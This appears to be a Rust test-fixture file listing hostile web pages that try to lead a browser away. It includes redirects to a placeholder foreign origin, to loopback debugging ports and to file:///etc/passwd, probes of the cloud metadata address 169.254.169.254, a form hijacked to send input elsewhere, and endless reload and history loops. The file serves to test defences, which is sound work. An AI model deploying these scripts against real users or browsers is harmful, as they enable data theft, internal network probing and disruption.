//! Pages that lead away: to other origins, loopback, files, scripts, or nowhere.

use super::hostility::{Hostility, Twist};

pub(super) const LEAVING: [Hostility; 24] = [
    Hostility::script(
        "leaves-for-another-origin",
        "setTimeout(() => { location.href = '@FOREIGN@/left'; }, 300);",
    ),
    Hostility::script(
        "leaves-for-loopback",
        "const ports = [9333, 9222, 8787, 22];
let next = 0;
setInterval(() => { location.href = 'http://127.0.0.1:' + ports[next++ % 4] + '/json/version'; }, 300);",
    ),
    Hostility::script(
        "leaves-for-a-file",
        "const file = () => { location.href = 'file:///etc/passwd'; };
file();
setInterval(file, 300);
window.open('file:///etc/hostname');",
    ),
    Hostility::both(
        "leaves-for-a-script",
        "<a href=\"javascript:fetch('@FOREIGN@/link')\">Continue here</a>",
        "setTimeout(() => { location.href = 'javascript:fetch(\"@FOREIGN@/script\"),void 0'; }, 200);",
    ),
    Hostility::both(
        "leaves-for-data",
        "<iframe src=\"data:text/html,<img src='@FOREIGN@/data-frame'>\"></iframe>",
        "setTimeout(() => { location.href = 'data:text/html,<h1>Elsewhere</h1>'; }, 300);",
    ),
    Hostility::script(
        "leaves-for-a-blob",
        "const page = '<h1>Continue</h1><img src=\"@FOREIGN@/blob\">';
const blob = new Blob([page], { type: 'text/html' });
setTimeout(() => { location.href = URL.createObjectURL(blob); }, 300);",
    ),
    Hostility::both(
        "asks-private-addresses",
        "<img src=\"http://169.254.169.254/latest/meta-data/\" alt=\"\"><iframe src=\"http://10.0.0.1/\"></iframe>",
        "for (const host of ['169.254.169.254', '10.0.0.1', '192.168.0.1', '[::1]', '0.0.0.0', '127.0.0.1:9333']) {
  fetch('http://' + host + '/', { mode: 'no-cors' }).catch(() => {});
}
setTimeout(() => { location.href = 'http://169.254.169.254/latest/meta-data/'; }, 500);",
    ),
    Hostility::head("refreshes-itself", "<meta http-equiv=\"refresh\" content=\"0\">"),
    Hostility::head(
        "refreshes-to-another-origin",
        "<meta http-equiv=\"refresh\" content=\"1;url=@FOREIGN@/refreshed\">",
    ),
    Hostility::twist(
        "refresh-in-a-header",
        Twist::Header("refresh", "0;url=@FOREIGN@/refreshed-by-header"),
    ),
    Hostility::twist("moved-to-another-origin", Twist::Moved("@FOREIGN@/moved")),
    Hostility::twist(
        "moved-to-loopback",
        Twist::Moved("http://127.0.0.1:9333/json/version"),
    ),
    Hostility::twist("moved-to-a-file", Twist::Moved("file:///etc/passwd")),
    Hostility::twist("moved-for-ever", Twist::Moved("@HERE@")),
    Hostility::twist(
        "sends-what-was-typed-onward",
        Twist::Onward(307, "@FOREIGN@/onward"),
    ),
    Hostility::twist(
        "continues-on-loopback",
        Twist::Onward(302, "http://127.0.0.1:9333/json/version"),
    ),
    Hostility::script(
        "form-aims-elsewhere-when-sent",
        "for (const form of document.forms) {
  form.addEventListener('submit', () => { form.action = '@FOREIGN@/form'; form.method = 'get'; });
}",
    ),
    Hostility::script(
        "address-changes-for-ever",
        "let turn = 0;
setInterval(() => { location.hash = 'turn-' + turn++; }, 10);",
    ),
    Hostility::script(
        "history-grows-for-ever",
        "let entry = 0;
setInterval(() => { history.pushState({ entry }, '', '?entry=' + entry++); }, 20);",
    ),
    Hostility::script(
        "history-holds",
        "for (let n = 0; n < 30; n++) history.pushState({ n }, '', '?back=' + n);
addEventListener('popstate', () => history.pushState({}, '', '?held=' + Math.random()));",
    ),
    Hostility::script(
        "goes-back",
        "setInterval(() => { history.back(); }, 500);",
    ),
    Hostility::script(
        "reloads-for-ever",
        "setTimeout(() => location.reload(), 250);",
    ),
    Hostility::both(
        "link-aims-elsewhere-when-pressed",
        "<a id=\"onward\" href=\"@HERE@/done\">Continue by this link</a>",
        "document.getElementById('onward').addEventListener('mousedown', (event) => {
  event.currentTarget.href = '@FOREIGN@/pressed';
});",
    ),
    Hostility::script(
        "other-schemes",
        "const schemes = ['mailto:a@example.org', 'tel:1', 'chrome://settings/', 'view-source:' + location.href,
  'about:blank', 'ftp://localhost/', 'intent://x#Intent;end', 'devtools://devtools/bundled/inspector.html'];
let at = 0;
setInterval(() => { location.href = schemes[at++ % schemes.length]; }, 250);",
    ),
];
